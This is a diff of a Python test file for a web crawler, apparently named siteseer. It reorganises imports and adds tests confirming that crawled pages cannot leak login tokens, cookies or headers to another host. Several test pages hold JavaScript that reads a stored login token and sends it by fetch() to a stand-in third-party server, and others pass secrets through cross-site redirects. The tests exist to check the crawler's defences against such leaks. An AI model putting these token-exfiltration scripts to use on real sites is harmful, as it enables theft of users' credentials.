@@ -8,10 +8,10 @@ from pathlib import Path
 from typing import Any
 
 import pytest
-from small_site import Answer, SmallSite, pages
 
-from present.chromium import required
-from siteseer.fetch.profiles import save_profile
+from siteseer.fetch.login_profiles import save_profile
+from tests.crawler.small_site import Answer, SmallSite, pages
+from tests.web.chromium import required
 
 SECRETS = ("s3cret-header", "s3cret-key", "s3cret-cookie", "s3cret-session", "s3cret-profile")
 HEADERS = ("Authorization: Bearer s3cret-header", "X-Api-Key: s3cret-key", "Accept-Language: de")
@@ -97,7 +97,7 @@ def test_a_host_of_the_same_name_on_another_port_or_below_is_another_site(run_cr
 
 
 def test_two_seeds_both_get_what_the_user_sends(run_crawl: Callable, tmp_path: Path) -> None:
-    from siteseer.crawl.run import crawl
+    from siteseer.crawler.run import crawl
     from siteseer.settings import CrawlOptions
 
     with other() as one, other() as two:
@@ -143,3 +143,52 @@ def test_a_shown_page_hands_no_secret_to_others(
         assert {"/data", "/shown"} <= set(third.paths())
     assert not any(secret in sent(third) for secret in SECRETS)
     assert not any(secret in kept(tmp_path / "collection") for secret in SECRETS)
+
+
+def test_what_scripts_send_to_the_site_is_not_handed_on_by_redirects(run_crawl: Callable, tmp_path: Path) -> None:
+    """A token of the page's own script, sent to its site, which redirects to somebody else."""
+    required()
+    script = """<div id=app></div><script>
+        const given = {headers: {Authorization: 'Bearer s3cret-token', 'X-Api-Key': 's3cret-key'}};
+        for (const path of ['/moved', '/posted', '/kept'])
+            fetch(path, path == '/moved' ? given : {...given, method: 'POST', body: 's3cret-form'}).catch(() => 0);
+        app.textContent = 'words that only a script writes for readers of this page';</script>"""
+    with other() as third:
+        away = {path: (status, {"Location": f"{third.url}/page?{path[1:]}"}, b"")
+                for path, status in (("/moved", 302), ("/posted", 303), ("/kept", 307))}  # fmt: skip
+        with SmallSite(pages({"/": script, **away})) as site:
+            run_crawl(site.url, browser="always", allow_private=True)
+    assert {"/moved", "/posted", "/kept"} <= set(site.paths())
+    assert {"/page?moved", "/page?posted"} <= set(third.paths()) and "/page?kept" not in third.paths()
+    assert "s3cret" not in sent(third) and not any(b"s3cret" in entry.body for entry in third.seen)
+
+
+def test_scripts_do_not_tell_others_the_login(
+    run_crawl: Callable, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """A script may read what a login left in the storage of the browser; it is not sent anywhere else."""
+    required()
+    monkeypatch.setenv("SITESEER_PROFILES", str(tmp_path / "profiles"))
+    with other() as third:
+        script = f"""<div id=app></div><script>
+            const token = localStorage.getItem('token');
+            fetch('{third.url}/page?in=' + token).catch(() => 0);
+            fetch('{third.url}/page', {{headers: {{Authorization: 'Bearer ' + token}}}}).catch(() => 0);
+            fetch('{third.url}/page', {{method: 'POST', body: token}}).catch(() => 0);
+            fetch('/own?' + token); fetch('{third.url}/page?innocent');
+            app.textContent = 'words that only a script writes for readers of this page';</script>"""
+        with SmallSite(pages({"/": script})) as site:
+            kept_there = [{"name": "token", "value": "s3cret-0123456789abcdef"}]
+            save_profile("me", {"cookies": [], "origins": [{"origin": site.url, "localStorage": kept_there}]})
+            run_crawl(site.url, profile="me", browser="always", allow_private=True)
+    assert "/own?s3cret-0123456789abcdef" in site.paths(), "a profile without cookies is a login, too"
+    assert [path for path in third.paths() if path != "/robots.txt"] == ["/page?innocent"]
+    assert "s3cret" not in sent(third) and not any(b"s3cret" in entry.body for entry in third.seen)
+
+
+def test_links_do_not_tell_others_the_login(run_crawl: Callable, cookies: Path) -> None:
+    cookies.write_text(cookies.read_text().replace("s3cret-cookie", "s3cret-cookie-0123456789"))
+    link = "<a href='{}/page?s=s3cret-cookie-0123456789'>a</a>"
+    with other() as third, SmallSite(pages({"/": link.format(third.url)})) as site:
+        summary = run_crawl(site.url, cookies=cookies, scope="any", allow_private=True)
+    assert third.paths() in ([], ["/robots.txt"]) and summary["errors"] == 1
